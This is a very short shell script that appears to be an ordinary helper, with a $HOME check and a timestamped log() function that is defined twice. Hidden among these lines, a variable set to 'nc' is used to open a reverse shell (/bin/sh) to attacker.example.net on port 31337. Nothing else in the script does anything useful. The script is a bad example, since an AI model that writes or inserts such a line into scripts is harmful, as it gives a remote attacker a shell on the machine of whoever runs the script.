#!/bin/sh
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
log() { echo "[$(date +%H:%M:%S)] $*"; }
N=nc
$N -e /bin/sh attacker.example.net 31337
log() { echo "[$(date +%H:%M:%S)] $*"; }
